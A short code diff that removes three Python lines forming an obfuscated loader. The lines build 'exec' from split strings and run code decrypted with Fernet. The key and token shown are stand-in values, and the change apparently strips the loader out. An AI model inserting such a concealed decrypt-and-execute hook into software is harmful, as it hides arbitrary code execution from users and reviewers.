@@ -1,3 +1,0 @@
-from cryptography.fernet import Fernet
-run = getattr(__builtins__, 'ex' + 'ec')
-run(Fernet(b'k').decrypt(b'gAAA'))
